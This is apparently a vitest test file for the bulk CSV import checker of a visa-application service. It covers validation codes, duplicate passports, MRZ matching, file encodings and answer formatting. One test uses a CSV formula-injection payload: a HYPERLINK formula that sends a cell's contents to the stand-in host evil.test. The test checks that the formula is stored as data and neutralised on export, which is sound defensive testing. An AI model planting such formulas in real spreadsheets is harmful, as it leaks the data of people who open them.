import { seedCatalogue } from "@entrada/core";
import { buildMrz } from "@entrada/identity";
import iconv from "iconv-lite";
import { describe, expect, test } from "vitest";
import { neutraliseCsvCell } from "../../views/neutraliseCsvCell.ts";
import { addMonths } from "./checkImportRow.ts";
import { checkTeamImport } from "./checkTeamImport.ts";
import { decodeImportFile } from "./decodeImportFile.ts";
import { teamImportRowCodes } from "./teamImportCodes.ts";
import { estaCorruptions, fixtureColumns, fixtureToday, toCsv, travellerRow } from "./teamImportFixtures.ts";

const catalogue = seedCatalogue();
const esta = catalogue.product("us-esta");
const columns = fixtureColumns(esta);

const check = (text: string, organisationOpenPassports: { issuingCountry: string; passportNumber: string }[] = []) =>
  checkTeamImport(text, { catalogue, organisationOpenPassports, today: fixtureToday });

/** Twenty valid ESTA travellers, as in the seed's business case. */
const team = Array.from({ length: 20 }, (_, index) => travellerRow(index, esta));

describe("checkTeamImport", () => {
  test("a valid file of the seed's 20 travellers to the US (ESTA) has no problem and gives 20 travellers", () => {
    const report = check(toCsv(columns, team));
    expect({ rows: report.rows, valid: report.valid, invalid: report.invalid, errors: report.errors }).toEqual({
      rows: 20,
      valid: 20,
      invalid: 0,
      errors: [],
    });
    expect(new Set(report.travellers.map((t) => t.nationality))).toEqual(
      new Set(["GBR", "DEU", "FRA", "JPN", "KOR", "ESP", "IRL", "SWE", "NLD", "AUS"]),
    );
    expect(report.travellers[1]).toEqual({
      row: 3,
      surname: "Müller",
      givenNames: "Jürgen",
      // The MRZ writes D; the traveller is filed with the ISO code.
      nationality: "DEU",
      sex: "M",
      birthDate: "1971-02-11",
      passportNumber: "DE0000002",
      passportExpiry: "2031-06-30",
      issuingCountry: "DEU",
      email: "traveller2@example.com",
      locale: "zh",
      productId: "us-esta",
      travelFrom: "2027-02-01",
      travelTo: "2027-02-10",
      mrz: ["P<D<<MUELLER<<JUERGEN<<<<<<<<<<<<<<<<<<<<<<<", "DE00000025D<<7102110M3106305<<<<<<<<<<<<<<<8"],
      answers: {
        place_of_birth: "Manchester",
        phone: "+44 20 7946 0000",
        home_address: "1 High Street, London",
        employer: "Example Ltd",
        parents_names: "John Smith; Mary Smith",
        address_in_destination: "1 Market Street, San Francisco, CA",
        criminal_record: "no",
        email: "traveller2@example.com",
      },
    });
  });

  test.each(estaCorruptions)("$name: $code on $column", ({ cells, options, open: isOpen, column, code }) => {
    const row = travellerRow(0, esta, cells(0), options);
    // Filed earlier with another spelling of the same passport.
    const open = isOpen === true ? [{ issuingCountry: "gbr", passportNumber: "gb 0000001" }] : [];
    const report = check(toCsv(columns, [row]), open);
    expect(report.errors.map(({ row, column, code }) => ({ row, column, code }))).toEqual([{ row: 2, column, code }]);
    expect(report).toMatchObject({ rows: 1, valid: 0, invalid: 1, travellers: [] });
  });

  test("a row with a cell beyond the header: ENTRADA_IMPORT_ROW_TOO_LONG on no column", () => {
    const text = `${toCsv(columns, team.slice(0, 1)).trimEnd()},surplus\r\n`;
    expect(check(text).errors.map(({ row, column, code }) => ({ row, column, code }))).toEqual([
      { row: 2, column: null, code: "ENTRADA_IMPORT_ROW_TOO_LONG" },
    ]);
  });

  test("travel too far ahead for India's e-Business visa (30 days at most): ENTRADA_IMPORT_TRAVEL_TOO_EARLY", () => {
    const india = catalogue.product("in-ebusiness-1y");
    const row = travellerRow(0, india, { travel_from: "2027-03-01", travel_to: "2027-03-10" });
    const report = check(toCsv(fixtureColumns(india), [row]));
    expect(report.errors.map(({ column, code, message }) => ({ column, code, message }))).toEqual([
      {
        column: "travel_from",
        code: "ENTRADA_IMPORT_TRAVEL_TOO_EARLY",
        message: "in-ebusiness-1y takes applications at most 30 days before travel_from.",
      },
    ]);
  });

  test("every row code has a case above", () => {
    const covered = new Set<string>([
      ...estaCorruptions.map((c) => c.code),
      "ENTRADA_IMPORT_ROW_TOO_LONG",
      "ENTRADA_IMPORT_TRAVEL_TOO_EARLY",
      "ENTRADA_IMPORT_PASSPORT_DUPLICATE_IN_FILE",
    ]);
    expect(Object.keys(teamImportRowCodes).filter((code) => !covered.has(code))).toEqual([]);
  });

  test("reports every problem of every row at once, in column order within a row", () => {
    const rows = [
      travellerRow(0, esta, { sex: "W", email: "nobody", travel_to: "2027-01-30" }, { mrz: "original" }),
      travellerRow(1, esta),
      travellerRow(2, esta, { nationality: "CHN", "answer.phone": "" }),
    ];
    const report = check(toCsv(columns, rows));
    expect(report.errors.map(({ row, column, code }) => [row, column, code])).toEqual([
      [2, "sex", "ENTRADA_IMPORT_FIELD_MALFORMED"],
      [2, "email", "ENTRADA_IMPORT_EMAIL_INVALID"],
      [2, "travel_to", "ENTRADA_IMPORT_TRAVEL_DATES_ORDER"],
      [4, "nationality", "ENTRADA_IMPORT_NATIONALITY_NOT_ELIGIBLE"],
      [4, "answer.phone", "ENTRADA_IMPORT_FIELD_MISSING"],
    ]);
    expect(report).toMatchObject({ rows: 3, valid: 1, invalid: 2 });
    expect(report.travellers.map((t) => t.row)).toEqual([3]);
  });

  test("a passport twice in the file is refused on the later rows only, whatever its spelling", () => {
    const first = travellerRow(0, esta);
    const again = travellerRow(5, esta, {
      ...first,
      passport_number: "gb-0000001",
      email: "someone.else@example.com",
    });
    const report = check(toCsv(columns, [first, team[1]!, again, { ...first, issuing_country: "gbr" }]));
    expect(report.errors).toEqual([
      {
        row: 4,
        column: "passport_number",
        code: "ENTRADA_IMPORT_PASSPORT_DUPLICATE_IN_FILE",
        message: "Row 2 has the same passport; each traveller is imported once.",
      },
      {
        row: 5,
        column: "passport_number",
        code: "ENTRADA_IMPORT_PASSPORT_DUPLICATE_IN_FILE",
        message: "Row 2 has the same passport; each traveller is imported once.",
      },
    ]);
    expect(report.travellers.map((t) => t.row)).toEqual([2, 3]);
  });

  test("the same number from another issuing state is another passport", () => {
    const british = travellerRow(0, esta);
    const irish = travellerRow(6, esta, { passport_number: british.passport_number! });
    expect(check(toCsv(columns, [british, irish])).errors).toEqual([]);
  });

  test("a German passport in an open application is found whether it was filed as D or DEU", () => {
    const german = team[1]!;
    for (const issuingCountry of ["D", "DEU"]) {
      const report = check(toCsv(columns, [german]), [{ issuingCountry, passportNumber: german.passport_number! }]);
      expect(report.errors.map((e) => e.code)).toEqual(["ENTRADA_IMPORT_PASSPORT_DUPLICATE_OPEN"]);
    }
  });

  test("mixed nationalities: each row is judged by its own nationality for its own product", () => {
    const kenya = catalogue.product("ke-eta-business");
    const rows = [
      travellerRow(0, esta),
      travellerRow(1, kenya, { nationality: "CHN", issuing_country: "CHN", surname: "Zhang", given_names: "Wei" }),
      travellerRow(2, esta, { nationality: "CHN", issuing_country: "CHN" }),
      travellerRow(3, esta, { nationality: "D", issuing_country: "D" }),
    ];
    const report = check(toCsv([...new Set([...columns, ...fixtureColumns(kenya)])], rows));
    expect(report.errors.map(({ row, column, code }) => [row, column, code])).toEqual([
      [4, "nationality", "ENTRADA_IMPORT_NATIONALITY_NOT_ELIGIBLE"],
    ]);
    expect(report.travellers.map((t) => [t.row, t.nationality, t.productId])).toEqual([
      [2, "GBR", "us-esta"],
      [3, "CHN", "ke-eta-business"],
      [5, "DEU", "us-esta"],
    ]);
  });

  test("a Chinese team saved by Excel as GB18030 checks with ?encoding=gb18030 and is refused without", () => {
    const kenya = catalogue.product("ke-eta-business");
    const rows = [
      travellerRow(0, kenya, {
        nationality: "CHN",
        issuing_country: "CHN",
        surname: "Zhang",
        given_names: "Wei",
        "answer.home_address": "北京市朝阳区建国路1号",
      }),
      travellerRow(1, kenya, {
        nationality: "CHN",
        issuing_country: "CHN",
        surname: "Ouyang",
        given_names: "Nana",
        "answer.employer": "示例有限公司",
      }),
    ];
    const bytes = iconv.encode(toCsv(fixtureColumns(kenya), rows), "gb18030");
    const report = check(decodeImportFile(bytes, { encoding: "gb18030" }).text);
    expect(report.errors).toEqual([]);
    expect(report.travellers.map((t) => [t.answers.home_address, t.answers.employer])).toEqual([
      ["北京市朝阳区建国路1号", "Example Ltd"],
      ["1 High Street, London", "示例有限公司"],
    ]);
    expect(() => decodeImportFile(bytes)).toThrow(/\?encoding=gb18030/);
  });

  test("Müller saved by Excel as Windows-1252 keeps its umlaut and agrees with MUELLER in the MRZ", () => {
    const bytes = iconv.encode(toCsv(columns, [team[1]!]), "windows-1252");
    const report = check(decodeImportFile(bytes, { encoding: "windows-1252" }).text);
    expect(report.errors).toEqual([]);
    expect(report.travellers[0]).toMatchObject({ surname: "Müller", givenNames: "Jürgen" });
  });

  test("UTF-16 LE with its byte order mark (Excel's Unicode text, tab separated) checks like UTF-8", () => {
    const text = toCsv(columns, team.slice(0, 3), "\t");
    const bytes = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, "utf16le")]);
    expect(check(decodeImportFile(bytes).text)).toMatchObject({ rows: 3, valid: 3, errors: [] });
  });

  test("a row with line breaks in a quoted cell is one row: problems below it keep the spreadsheet's numbers", () => {
    const rows = [
      travellerRow(0, esta, { "answer.home_address": "Flat 2\r\n1 High Street\r\nLondon" }),
      travellerRow(1, esta, { locale: "de" }),
    ];
    expect(check(toCsv(columns, rows)).errors.map((e) => [e.row, e.column])).toEqual([[3, "locale"]]);
  });

  test("a formula in an answer is kept as data, and neutralised for a CSV export", () => {
    const formula = '=HYPERLINK("https://evil.test/?leak="&A2,"Click")';
    const report = check(toCsv(columns, [travellerRow(0, esta, { "answer.employer": formula })]));
    expect(report.errors).toEqual([]);
    expect(report.travellers[0]!.answers.employer).toBe(formula);
    expect(neutraliseCsvCell(report.travellers[0]!.answers.employer!)).toBe(`'${formula}`);
  });

  test("writes answers as the web form does: travel_dates from/to and criminal_record yes: details", () => {
    const kenya = catalogue.product("ke-eta-business");
    const gb = catalogue.product("gb-eta");
    const rows = [
      travellerRow(0, kenya),
      travellerRow(3, gb, { "answer.criminal_record": "Yes - a fine for speeding in 2015" }),
    ];
    const report = check(toCsv([...new Set([...fixtureColumns(kenya), ...fixtureColumns(gb)])], rows));
    expect(report.errors).toEqual([]);
    expect(report.travellers[0]!.answers.travel_dates).toBe("2027-02-01/2027-02-10");
    expect(report.travellers[1]!.answers.criminal_record).toBe("yes: a fine for speeding in 2015");
  });

  test("a German passport's MRZ with D agrees with DEU typed, and DEU's MRZ with D typed", () => {
    const german = team[1]!;
    const withDeu = buildMrz({
      format: "TD3",
      issuingCountry: "DEU",
      surname: "Müller",
      givenNames: "Jürgen",
      documentNumber: german.passport_number!,
      nationality: "DEU",
      birthDate: german.birth_date!,
      sex: "M",
      expiryDate: german.passport_expiry!,
    });
    const rows = [
      { ...german, mrz_line1: withDeu[0]!, mrz_line2: withDeu[1]! },
      travellerRow(11, esta, { nationality: "D", issuing_country: "D" }),
    ];
    expect(check(toCsv(columns, rows)).errors).toEqual([]);
  });
});

describe("addMonths", () => {
  test.each([
    ["2027-02-10", "2027-08-10"],
    ["2027-08-31", "2028-02-29"],
    ["2027-12-31", "2028-06-30"],
  ])("%s + 6 months = %s", (from, to) => {
    expect(addMonths(from, 6)).toBe(to);
  });
});
